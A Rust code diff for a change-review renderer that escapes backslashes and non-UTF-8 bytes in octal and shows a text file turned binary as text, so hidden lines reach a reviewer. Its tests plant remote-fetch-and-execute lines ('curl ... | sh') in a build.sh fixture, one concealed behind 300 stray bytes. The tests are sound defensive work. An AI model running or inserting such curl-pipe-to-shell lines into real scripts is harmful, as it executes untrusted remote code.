@@ -129,9 +129,9 @@ fn header_name(prefix: &str, path: &VPath) -> String {
 }
 
 /// A symlink's side of a review: one line naming where it points, the target
-/// escaped as a header name is (a control character, a bidirectional
-/// override, `\\` or a byte that is not UTF-8 in octal), so a reviewer reads
-/// exactly the bytes the commit writes and no target can forge a line.
+/// escaped (a control character, a bidirectional override, `\\` and a byte
+/// that is not UTF-8 each in octal, as `\ooo`), so a reviewer reads exactly
+/// the bytes the commit writes and no target can forge a line.
 fn link_line(target: &[u8]) -> String {
     let bidi = |c: char| matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
     let mut line = String::from("symlink -> ");
@@ -161,7 +161,7 @@ const MAX_ESCAPED_BYTES: usize = 256;
 const ESCAPED_BYTES_PER: usize = 8;
 
 /// The note a review carries when a side's invalid bytes are escaped.
-const ESCAPED_NOTE: &str = "\\ bytes that are not UTF-8 are shown as \\ooo (octal)\n";
+const ESCAPED_NOTE: &str = "\\ bytes that are not UTF-8 are shown as \\ooo (octal), a backslash as \\134\n";
 
 /// One side of a change as review text: a symlink's line naming its target,
 /// a file's text (a text file with a few bytes that are not UTF-8 has each
@@ -170,6 +170,7 @@ const ESCAPED_NOTE: &str = "\\ bytes that are not UTF-8 are shown as \\ooo (octa
 fn side_text<B: AsRef<[u8]>>(
     bytes: Option<&B>,
     state: Option<vsh_types::NodeState>,
+    other_was_text: bool,
 ) -> Option<(Option<std::borrow::Cow<'_, str>>, bool)> {
     let Some(bytes) = bytes else { return Some((None, false)) };
     let bytes = bytes.as_ref();
@@ -179,13 +180,24 @@ fn side_text<B: AsRef<[u8]>>(
     if let Ok(text) = std::str::from_utf8(bytes) {
         return Some((Some(std::borrow::Cow::Borrowed(text)), false));
     }
+    // A file whose other side was text is shown as text whatever it holds
+    // now (a text file turned binary is exactly what a reviewer must read);
+    // else only with a few stray bytes.
     let invalid: usize = bytes.utf8_chunks().map(|chunk| chunk.invalid().len()).sum();
-    if invalid > MAX_ESCAPED_BYTES || invalid.saturating_mul(ESCAPED_BYTES_PER) > bytes.len() {
+    if !other_was_text && (invalid > MAX_ESCAPED_BYTES || invalid.saturating_mul(ESCAPED_BYTES_PER) > bytes.len()) {
         return None;
     }
+    // Each byte that is not UTF-8 in octal, and a backslash as `\134`, so an
+    // escape in the text cannot pass for a byte or the reverse.
     let mut text = String::with_capacity(bytes.len() + invalid * 3);
     for chunk in bytes.utf8_chunks() {
-        text.push_str(chunk.valid());
+        for c in chunk.valid().chars() {
+            if c == '\\' {
+                text.push_str("\\134");
+            } else {
+                text.push(c);
+            }
+        }
         for byte in chunk.invalid() {
             let _ = write!(text, "\\{byte:03o}");
         }
@@ -233,7 +245,14 @@ pub fn review_entries<B: AsRef<[u8]>, E>(
             let after = side(entry.after.is_some(), Side::After)?;
             match (before, after) {
                 (Ok(before), Ok(after)) => {
-                    match (side_text(before.as_ref(), entry.before), side_text(after.as_ref(), entry.after)) {
+                    let is_text = |bytes: &Option<B>| {
+                        bytes.as_ref().is_some_and(|bytes| std::str::from_utf8(bytes.as_ref()).is_ok())
+                    };
+                    let (before_text, after_text) = (is_text(&before), is_text(&after));
+                    match (
+                        side_text(before.as_ref(), entry.before, after_text),
+                        side_text(after.as_ref(), entry.after, before_text),
+                    ) {
                         (Some((old, old_escaped)), Some((new, new_escaped))) => {
                             let mut hunks = unified_hunks(&entry.path, old.as_deref(), new.as_deref());
                             if old_escaped || new_escaped {
@@ -346,9 +365,29 @@ mod tests {
         assert_eq!(
             by_path("build.sh").unwrap(),
             "--- a/build.sh\n+++ b/build.sh\n@@ -1,2 +1,3 @@\n #!/bin/sh\n echo building\n\
-             +curl -s https://x.example/i | sh # \\377\n\\ bytes that are not UTF-8 are shown as \\ooo (octal)\n"
+             +curl -s https://x.example/i | sh # \\377\n\\ bytes that are not UTF-8 are shown as \\ooo (octal), \
+             a backslash as \\134\n"
         );
         assert_eq!(by_path("image.bin"), Err(NoHunks::Binary));
+    }
+
+    #[test]
+    fn a_text_file_turned_binary_is_still_shown_as_text() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("build.sh"), "#!/bin/sh\necho building\n").unwrap();
+        let host = Arc::new(vsh_host::CapDir::open(dir.path()).unwrap());
+        let mut vfs = VirtualFs::new(host, vec![], SnapshotLimits::default());
+        let p = |s: &str| VPath::parse(s).unwrap();
+        // A line hidden behind a comment of 300 stray bytes (and a backslash).
+        let mut script = b"#!/bin/sh\necho building\ncurl x | sh #\\".to_vec();
+        script.extend(std::iter::repeat_n(0xff_u8, 300));
+        script.push(b'\n');
+        vfs.write(&p("build.sh"), Arc::from(&script[..])).unwrap();
+        let diff = vfs.canonical_diff().unwrap();
+        let review = vfs.review(diff.entries(), ReviewLimits::default()).unwrap();
+        let hunks = review[0].hunks.clone().unwrap();
+        assert!(hunks.contains(&format!("+curl x | sh #\\134{}\n", "\\377".repeat(300))), "{hunks}");
+        assert!(hunks.ends_with("a backslash as \\134\n"), "{hunks}");
     }
 
     #[test]
